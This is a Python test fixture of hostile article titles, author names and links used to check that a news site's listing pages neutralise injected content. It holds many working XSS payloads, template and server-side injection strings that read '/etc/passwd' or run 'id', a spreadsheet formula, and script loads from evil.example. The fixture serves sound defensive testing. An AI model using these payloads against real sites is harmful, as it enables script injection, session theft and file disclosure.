"""Attacks: texts of an article that try to run a script on the pages that list it.

Each script would set `window.pwned`, open a dialog, or ask a host that is not ours.
"""

from collections.abc import Callable
from itertools import cycle
from typing import Any, Final

P: Final = "window.pwned=1"
TITLES: Final = (
    # elements that run scripts
    f"<script>{P}</script>",
    f"</script><script>{P}</script>",
    f"<ScRiPt src=//evil.example/x.js></sCrIpT>{P}",
    f"<script\x09type='text/javascript'\x0b>{P}</script\x0b>",
    f"<<script>{P};//<</script>",
    f"<scr<script>ipt>{P}</scr</script>ipt>",
    f"<script>/*</title><img src=x onerror={P}>*/</script>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<iframe src=javascript:alert(1)></iframe>",
    f'<iframe srcdoc="&lt;script&gt;parent.{P}&lt;/script&gt;"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button autofocus>send</button></form>",
    # handlers of events
    f"<img src=x onerror={P}>",
    f"<img/src='x'/onerror='{P}'>",
    f"<body onload={P}>",
    f"<input autofocus onfocus={P}>",
    f"<details open ontoggle={P}>x</details>",
    f"<video><source onerror={P}></video>",
    f"<marquee onstart={P}>x</marquee>",
    f"<a href=# onmouseover={P}>come here</a>",
    f"<style>@keyframes x{{}}</style><b style='animation:x' onanimationstart={P}>x</b>",
    # attribute and element break-outs
    f'" onmouseover="{P}',
    f"' autofocus onfocus='{P}",
    f'"><img src=x onerror={P}>',
    f"'><svg onload={P}>",
    f"</span></a></li></ul></section><script>{P}</script>",
    f"</textarea><script>{P}</script>",
    f"</title><script>{P}</script>",
    f"</style><script>{P}</script>",
    f"--><script>{P}</script><!--",
    f"]]><script>{P}</script>",
    f"<!--<img src='--><img src=x onerror={P}//'>",
    f"<?xml version='1.0'?><script>{P}</script>",
    # foreign content and what parsers make of it the second time
    f"<svg><script>{P}</script></svg>",
    f"<svg onload={P}>",
    f"<svg><animate onbegin={P} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    f"<math><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={P}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={P}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={P}>'>",
    f"<template><script>{P}</script></template>",
    f"<select><style><!--</style><a rel='--></style></select><img src=x onerror={P}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={P}>",
    f"<xmp><p title='</xmp><svg/onload={P}>'>",
    # entities that turn into marks when they are decoded once too often
    f"&lt;script&gt;{P}&lt;/script&gt;",
    f"&#60;img src=x onerror={P}&#62;",
    f"&#x3c;svg onload={P}&#x3e",
    f"&amp;lt;script&amp;gt;{P}&amp;lt;/script&amp;gt;",
    f"%3Cscript%3E{P}%3C/script%3E",
    f"\\u003cscript\\u003e{P}\\u003c/script\\u003e",
    # templates, comments of servers, formulas
    "{{constructor.constructor('window.pwned=1')()}}",
    "{% include '/etc/passwd' %}{{ 7*7 }}{{ config }}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "<!--#include virtual='/etc/passwd'--><!--#exec cmd='id'-->",
    "<esi:include src='http://evil.example/'/>",
    "<?php system('id'); ?>",
    "=HYPERLINK('http://evil.example','click')",
    # styles
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<b style='width:expression(alert(1));background:url(javascript:alert(1))'>x</b>",
    "<div style='position:fixed;inset:0;z-index:99999'>covers all</div>",
    # letters
    f"\u202e>tpircs/<{P}>tpircs<\u2066 turned around",
    f"\uff1cscript\uff1e{P}\uff1c/script\uff1e",
    f"\u02bcscript\u02ba onload={P} \u2028alert(1)\u2029",
    f"\ufeff<script>{P}</script>\ufffd\ufffe\uffff",
    f"+ADw-script+AD4-{P}+ADw-/script+AD4-",
    "null",
    "undefined",
    "[object Object]",
    "\u200b\u200e\u2060",
    "W" * 1_990,
    "e\u0301\u0323" * 600,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467" * 300,
    f"Ship <b>bold</b> & <i>{P}</i> \"quoted\" 'twice' `thrice`",
)
NAMES: Final = (
    f"<script>{P}</script>",
    f"<img src=x onerror={P}>",
    f'"><svg onload={P}>',
    f"' onmouseover='{P}",
    "<a href=javascript:alert(1)>By</a>",
    "{{ 7*7 }}",
    f"</p></article><script>{P}</script>",
    f"&lt;img src=x onerror={P}&gt;",
    "\u202egnp.exe",
    "W" * 300,
)
"""Of authors, sections and tags."""
LINKS: Final = (
    f'https://news.example/"onmouseover="{P}',
    f"https://news.example/'onclick='{P}",
    f"https://news.example/><script>{P}</script>",
    "https://news.example/#javascript:alert(1)",
    "https://javascript:alert(1)@news.example/",
    "https://news.example/?u=javascript:alert(1)&amp;lt;script&amp;gt;",
    "https://news.example/%0ajavascript:alert(1)",
    "https://news.example/`+alert(1)+`",
    "https://news.example/\\..\\evil",
    "https://news.example/{{7*7}}${7*7}",
    "https://xn--e1awd7f.example/",
    "https://новости.example/статья",
    "http://[::1]/",
    "https://news.example/" + "a" * 1_900,
)
"""Addresses that are of the web, whatever else they hold."""
REFUSED_LINKS: Final = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript\x3a//https://news.example/%0aalert(1)",
    "javascript://news.example/%0aalert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "jav\u0430script:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "view-source:https://news.example/",
    "blob:https://news.example/1",
    "filesystem:https://news.example/1",
    "file:///etc/passwd",
    "ftp://news.example/",
    "about:blank",
    "//evil.example/",
    "/relative",
    "\\\\evil.example\\",
    "https:evil.example",
    "https://",
    "https://\x00evil.example/",
    "https://news.example/\nSet-Cookie: a=b",
    "https://news.example/\u202egpj.exe",
    "https://news.example/a b",
)


def articles(make_story: Callable[..., dict[str, Any]]) -> list[dict[str, Any]]:
    """One article for each title, with hostile names, texts and addresses in turn."""
    names, links, texts = cycle(NAMES), cycle(LINKS), cycle(TITLES[5:])
    return [
        make_story(
            f"hostile-{number}",
            title=title,
            url=next(links),
            section=next(names),
            authors=[next(names), next(names)],
            tags=[next(names)],
            summary=next(texts)[:500],
            published_at="2024-03-05T08:00:00Z",
        )
        for number, title in enumerate(TITLES)
    ]
